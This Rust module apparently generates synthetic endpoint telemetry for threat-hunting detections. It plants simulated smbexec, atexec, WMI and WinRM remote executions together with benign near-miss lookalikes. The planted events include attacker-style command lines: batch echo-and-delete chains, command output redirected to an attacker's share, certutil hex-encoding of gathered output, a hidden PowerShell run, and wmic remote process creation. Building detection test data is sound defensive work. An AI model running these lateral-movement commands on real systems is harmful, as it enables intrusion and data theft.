//! Planted remote executions by other tools than wmiexec and dcomexec, the connections before them, and what looks like either.
//! It knows nothing of raw shapes or files.

use super::answers::{Hunt, Kind};
use super::event::{Endpoint, Integrity, Running};
use super::network::{Arrival, Dialogue, dotted};
use super::planned::{Launch, Scene};
use super::programs::{
    BACKUP, CCMEXEC, CERTUTIL, CMD, POWERSHELL, Program, SERVICES, SVCHOST, WHOAMI, WMIC,
};
use super::stories::{HOUR, MILLISECOND, MINUTE, Stage};
use super::text::{SECOND, text_of};
use super::world::{DEFENDER, FALCON, OCSF, SENTINEL, SERVERS, STOLEN, SYSTEM};

const SYSTEM32: &str = r"C:\Windows\system32\";

/// Plants what begins on the nth day (from 0) of so many.
pub(crate) fn plant(stage: &mut Stage<'_>, midnight: i64, nth: u32, days: u32) {
    let chosen = |wanted: u32| nth == wanted % days;
    monitoring(stage, midnight);
    if chosen(0) {
        atexec(stage, scene(1, 4), midnight + 13 * HOUR, r"C:\Windows");
        through_winrm(stage, midnight + 9 * HOUR + 30 * MINUTE);
        client(stage, scene(0, 1), midnight + 10 * HOUR, [10, 20, 3, 30]);
        client(
            stage,
            scene(FALCON, 2),
            midnight + 11 * HOUR,
            [10, 20, 3, 31],
        );
        local_inventory(stage, midnight + 7 * HOUR);
    }
    if chosen(1) {
        smbexec(stage, scene(0, 4), midnight + 12 * HOUR);
        fileless(stage, midnight + 13 * HOUR);
        powershell_client(stage, midnight + 14 * HOUR);
    }
    if chosen(2) {
        atexec(stage, scene(4, 1), midnight + 17 * HOUR, "%windir%");
        smbexec(stage, scene(SENTINEL, 1), midnight + 18 * HOUR);
        over_wmi(stage, midnight + 11 * HOUR);
        too_late(stage, midnight + 16 * HOUR);
    }
}

fn scene(collector: usize, nth: usize) -> Scene {
    Scene { collector, nth }
}

/// A start in these stories.
struct Act<'a> {
    host: usize,
    at: i64,
    program: &'static Program,
    command: &'a str,
    account: usize,
    parent: &'a Running,
    client: Option<[u8; 4]>,
    stories: &'a [usize],
}

fn act(stage: &mut Stage<'_>, act: &Act<'_>) -> Running {
    let integrity = if act.account == SYSTEM {
        Integrity::System
    } else {
        Integrity::High
    };
    stage.launch(&Launch {
        host: act.host,
        at: act.at,
        program: act.program,
        image: None,
        command: act.command,
        directory: SYSTEM32,
        account: act.account,
        integrity,
        parent: act.parent,
        client: act.client,
        stories: act.stories,
        audit_stories: act.stories,
    })
}

/// Random letters, the first a capital and the second none, as a name of both cases must be.
fn letters(stage: &mut Stage<'_>, count: usize) -> String {
    text_of(|out| {
        for place in 0..count {
            let letter = u8::try_from(stage.rng.below(26)).unwrap_or(0);
            let capital = place == 0 || (place != 1 && stage.rng.below(2) == 0);
            out.push(if capital { b'A' } else { b'a' } + letter);
        }
    })
}

/// The story of a hunt that needs a connection and a child.
fn sequence(stage: &mut Stage<'_>, kind: Kind, host: usize, from: [u8; 4], why: &str) -> usize {
    let address = dotted(from);
    let key = ("source_ip", address.as_str());
    stage.begin(Hunt::WmiChildAfterInboundConnection, kind, host, key, why)
}

fn smbexec(stage: &mut Stage<'_>, scene: Scene, start: i64) {
    let host = stage.host_at(scene);
    let services = stage.long_running(host, &SERVICES);
    let name = stage.world.hosts[host].short_name.clone();
    for (index, typed) in (0_i64..).zip(["cd ", "whoami", "net user"]) {
        let (output, batch) = (letters(stage, 8), letters(stage, 8));
        let batch = format!(r"C:\Windows\{batch}.bat");
        let shell = r"C:\Windows\system32\cmd.exe /Q /c";
        let command = format!(
            r"{shell} echo {typed} ^> \\{name}\C$\__output_{output} 2^>^&1 > {batch} & {shell} {batch} & del {batch}"
        );
        let at = start + index * 35 * SECOND + stage.rng.between(0, 900) * MILLISECOND;
        let mut step = Act {
            host,
            at,
            program: &CMD,
            command: &command,
            account: SYSTEM,
            parent: &services,
            client: None,
            stories: &[],
        };
        let outer = act(stage, &step);
        let inner = format!(r"C:\Windows\system32\cmd.exe  /Q /c {batch} ");
        step.at += 40 * MILLISECOND;
        step.command = inner.trim_end();
        step.parent = &outer;
        let inner = act(stage, &step);
        if typed == "whoami" {
            step.at += 30 * MILLISECOND;
            step.program = &WHOAMI;
            step.command = "whoami";
            step.parent = &inner;
            act(stage, &step);
        }
    }
    let why = "a service that starts with a batch file: nothing is written into it, no output file";
    let key = ("host_name", name.as_str());
    let story = stage.begin(Hunt::SmbexecCommand, Kind::NearMiss, host, key, why);
    let command = r#"C:\Windows\system32\cmd.exe /Q /c "C:\Program Files\Coldstack\start.bat""#;
    let step = Act {
        host,
        at: start + HOUR,
        program: &CMD,
        command,
        account: SYSTEM,
        parent: &services,
        client: None,
        stories: &[story],
    };
    act(stage, &step);
}

fn atexec(stage: &mut Stage<'_>, scene: Scene, start: i64, windows: &str) {
    let host = stage.host_at(scene);
    let scheduler = stage.long_running(host, &SVCHOST);
    for (index, typed) in (0_i64..).zip(["whoami", "tasklist /m"]) {
        let file = letters(stage, 8);
        let command = format!(r"cmd.exe /C {typed} > {windows}\Temp\{file}.tmp 2>&1");
        let step = Act {
            host,
            at: start + index * 2 * MINUTE + stage.rng.between(0, 900) * MILLISECOND,
            program: &CMD,
            command: &command,
            account: SYSTEM,
            parent: &scheduler,
            client: None,
            stories: &[],
        };
        act(stage, &step);
    }
    let why = "a task of an administrator: its log has a name and a folder of its own";
    let command = r"cmd.exe /C D:\Jobs\rotate.cmd > D:\Jobs\Temp\rotatelog.tmp 2>&1";
    let key = ("command_line", command);
    let story = stage.begin(Hunt::AtexecCommand, Kind::NearMiss, host, key, why);
    let step = Act {
        host,
        at: start + HOUR,
        program: &CMD,
        command,
        account: SYSTEM,
        parent: &scheduler,
        client: None,
        stories: &[story],
    };
    act(stage, &step);
}

/// Output without a file on the target, which writes to a share of the attacker's: the connection comes ten seconds before the child.
fn fileless(stage: &mut Stage<'_>, start: i64) {
    let host = stage.host_at(scene(1, 5));
    let from = [10, 20, 9, 61];
    let why =
        "the child comes 10.2 s after the connection, as slow hosts do; one second would miss it";
    let story = sequence(stage, Kind::Hit, host, from, why);
    stage.arrive(&Arrival {
        host,
        at: start,
        account: STOLEN,
        from,
        port: 135,
        dialogue: Dialogue::Wmi,
        stories: &[story],
    });
    let parent = stage.provider_host(host);
    let share = letters(stage, 4).to_uppercase();
    for (index, typed) in (0_i64..).zip(["whoami", "ipconfig /all"]) {
        let name = letters(stage, 6);
        let command = format!(r"cmd.exe /Q /c {typed} 1> \\10.20.9.61\{share}\{name} 2>&1");
        let step = Act {
            host,
            at: start + 10_200 * MILLISECOND + index * 8 * SECOND,
            program: &CMD,
            command: &command,
            account: STOLEN,
            parent: &parent,
            client: Some(from),
            stories: &[story],
        };
        act(stage, &step);
    }
}

/// The same tool's own protocol for WMI, on a server: the connection is stamped after the child.
fn over_wmi(stage: &mut Stage<'_>, start: i64) {
    let host = stage.host_at(scene(SERVERS, 1));
    let from = [10, 20, 9, 62];
    let why = "the connection is stamped half a second after the child, as Sysmon does under load";
    let story = sequence(stage, Kind::Hit, host, from, why);
    stage.arrive(&Arrival {
        host,
        at: start + 500 * MILLISECOND,
        account: STOLEN,
        from,
        port: 135,
        dialogue: Dialogue::Wmi,
        stories: &[story],
    });
    let parent = stage.provider_host(host);
    let (high, low) = (stage.rng.next(), stage.rng.next());
    let file = format!(
        r"C:\windows\temp\{}.txt",
        text_of(|out| super::falcon::put_uuid(out, high, low))
    );
    let written = format!("cmd.exe /Q /c  (whoami /groups) 1> \"{file}\" 2>&1");
    let encoded = format!("certutil -encodehex -f \"{file}\" \"{file}.b64\" 0x40000001");
    for (index, program, command) in [(0, &CMD, &written), (1, &CERTUTIL, &encoded)] {
        let step = Act {
            host,
            at: start + index * 4 * SECOND,
            program,
            command,
            account: STOLEN,
            parent: &parent,
            client: Some(from),
            stories: &[story],
        };
        act(stage, &step);
    }
}

/// `Invoke-WmiMethod` through port 5985 against a host that Defender watches.
fn through_winrm(stage: &mut Stage<'_>, start: i64) {
    let host = stage.host_at(scene(DEFENDER, 1));
    let from = [10, 20, 9, 63];
    let why = "the child comes 1.4 s after a connection to WinRM's port";
    let story = sequence(stage, Kind::Hit, host, from, why);
    stage.arrive(&Arrival {
        host,
        at: start,
        account: STOLEN,
        from,
        port: 5985,
        dialogue: Dialogue::Encrypted,
        stories: &[story],
    });
    let parent = stage.provider_host(host);
    let step = Act {
        host,
        at: start + 1400 * MILLISECOND,
        program: &POWERSHELL,
        command: r"powershell.exe -NoP -W Hidden -File C:\Users\Public\sync.ps1",
        account: STOLEN,
        parent: &parent,
        client: Some(from),
        stories: &[story],
    };
    act(stage, &step);
}

/// A connection, and a child so much later that it need not have to do with it.
fn too_late(stage: &mut Stage<'_>, start: i64) {
    let host = stage.host_at(scene(0, 4));
    let from = [10, 20, 4, 15];
    let why = "the child comes 40 s after the connection, with no child before it";
    let story = sequence(stage, Kind::NearMiss, host, from, why);
    stage.arrive(&Arrival {
        host,
        at: start,
        account: SYSTEM,
        from,
        port: 135,
        dialogue: Dialogue::Encrypted,
        stories: &[story],
    });
    let parent = stage.provider_host(host);
    let step = Act {
        host,
        at: start + 40 * SECOND,
        program: &CMD,
        command: r"cmd.exe /c C:\Windows\CCM\inventory.cmd",
        account: SYSTEM,
        parent: &parent,
        client: None,
        stories: &[story],
    };
    act(stage, &step);
}

/// The monitoring server asks the domain controllers and a laboratory host every day, and nothing is started.
fn monitoring(stage: &mut Stage<'_>, midnight: i64) {
    let from = [10, 20, 2, 12];
    for (place, (collector, nth)) in (0_i64..).zip([(SERVERS, 0), (OCSF, 1)]) {
        let host = stage.host_at(scene(collector, nth));
        let why = "a connection to port 135, and no child of the WMI provider host";
        let story = sequence(stage, Kind::NearMiss, host, from, why);
        let at = midnight + 6 * HOUR + place * MINUTE + stage.rng.between(0, 30_000) * MILLISECOND;
        stage.arrive(&Arrival {
            host,
            at,
            account: super::world::MONITORING,
            from,
            port: 135,
            dialogue: Dialogue::Encrypted,
            stories: &[story],
        });
    }
    stage.permit(
        scene(SERVERS, 0),
        midnight + 6 * HOUR + 9 * MINUTE,
        from,
        5985,
    );
    stage.permit(
        scene(SERVERS, 2),
        midnight + 6 * HOUR + 12 * MINUTE,
        from,
        5986,
    );
}

/// wmic against another host. RPCSS asks the endpoint mapper for it, wmic itself connects to a dynamic port.
fn client(stage: &mut Stage<'_>, scene: Scene, start: i64, target: [u8; 4]) {
    let host = stage.host_at(scene);
    let desktop = stage.desktop(host);
    let account = stage.account_of(host);
    let address = dotted(target);
    let command = format!(
        r#"wmic  /node:{address} process call create "cmd.exe /c C:\Users\Public\run.cmd""#
    );
    let key = ("command_line", command.as_str());
    let mut stories: Vec<usize> = [Hunt::RemoteWmiCommandAttempt, Hunt::WmicRemoteIp]
        .into_iter()
        .map(|hunt| {
            let why = "starts a process on another host, with the connection it takes";
            stage.begin(hunt, Kind::Hit, host, key, why)
        })
        .collect();
    let why = "wmic starts and connects to a dynamic port of another host";
    let key = ("destination_ip", address.as_str());
    let connected = stage.begin(Hunt::WmiClientConnection, Kind::Hit, host, key, why);
    stories.push(connected);
    let wmic = stage.launch(&Launch {
        host,
        at: start,
        program: &WMIC,
        image: None,
        command: &command,
        directory: SYSTEM32,
        account,
        integrity: Integrity::High,
        parent: &desktop,
        client: None,
        stories: &stories,
        // 4688 has no id that a connection could be joined by.
        audit_stories: &stories[..2],
    });
    let why = "the service that asks for wmic: it is no client program";
    let asked = stage.begin(Hunt::WmiClientConnection, Kind::NearMiss, host, key, why);
    let service = stage.long_running(host, &SVCHOST);
    let mapper = Endpoint {
        address: target,
        port: 135,
    };
    let object = Endpoint {
        address: target,
        port: 49_667,
    };
    stage.connect(host, start + 120 * MILLISECOND, &service, mapper, &[asked]);
    stage.connect(host, start + 150 * MILLISECOND, &wmic, object, &[connected]);
}

/// PowerShell against another host's port 5985, in New York.
fn powershell_client(stage: &mut Stage<'_>, start: i64) {
    let host = stage.host_at(scene(3, 2));
    let desktop = stage.desktop(host);
    let target = [10, 20, 3, 33];
    let address = dotted(target);
    let why = "PowerShell starts and connects to another host's WinRM";
    let key = ("destination_ip", address.as_str());
    let story = stage.begin(Hunt::WmiClientConnection, Kind::Hit, host, key, why);
    let powershell = stage.launch(&Launch {
        host,
        at: start,
        program: &POWERSHELL,
        image: None,
        command: r#"powershell.exe -NoP -Command "Enter-PSSession SRV-APP01""#,
        directory: SYSTEM32,
        account: STOLEN,
        integrity: Integrity::High,
        parent: &desktop,
        client: None,
        stories: &[story],
        audit_stories: &[],
    });
    let to = Endpoint {
        address: target,
        port: 5985,
    };
    stage.connect(host, start + 700 * MILLISECOND, &powershell, to, &[story]);
    let why = "the backup's agent connects, but is no client of WMI";
    let story = stage.begin(Hunt::WmiClientConnection, Kind::NearMiss, host, key, why);
    let services = stage.long_running(host, &SERVICES);
    let backup = act(
        stage,
        &Act {
            host,
            at: start + HOUR,
            program: &BACKUP,
            command: r#""C:\Program Files\Coldstack\csbackup.exe" --push SRV-APP01"#,
            account: SYSTEM,
            parent: &services,
            client: None,
            stories: &[story],
        },
    );
    stage.connect(host, start + HOUR + SECOND, &backup, to, &[story]);
}

/// The management agent's inventory through WMI, on a host that CrowdStrike watches.
fn local_inventory(stage: &mut Stage<'_>, start: i64) {
    let host = stage.host_at(scene(FALCON, 2));
    let parent = stage.provider_host(host);
    let agent = stage.long_running(host, &CCMEXEC);
    let why = "inventory through WMI by a client on the host itself: no address, no connection";
    for (index, query) in (0_i64..).zip(["get winrm/config", "get winrm/config/client"]) {
        let hash = stage.rng.next();
        let command = format!(
            r"cmd.exe /c winrm {query} >C:\Windows\TEMP\{hash:016x}.stdout 2>C:\Windows\TEMP\{hash:016x}.stderr"
        );
        let key = ("command_line", command.as_str());
        let stories = [
            Hunt::WmiexecNoOutput,
            Hunt::WmiexecSharedOutputFile,
            Hunt::WmiChildAfterInboundConnection,
        ]
        .map(|hunt| stage.begin(hunt, Kind::NearMiss, host, key, why));
        let step = Act {
            host,
            at: start + index * 3 * SECOND,
            program: &CMD,
            command: &command,
            account: agent.account,
            parent: &parent,
            client: None,
            stories: &stories,
        };
        act(stage, &step);
    }
}
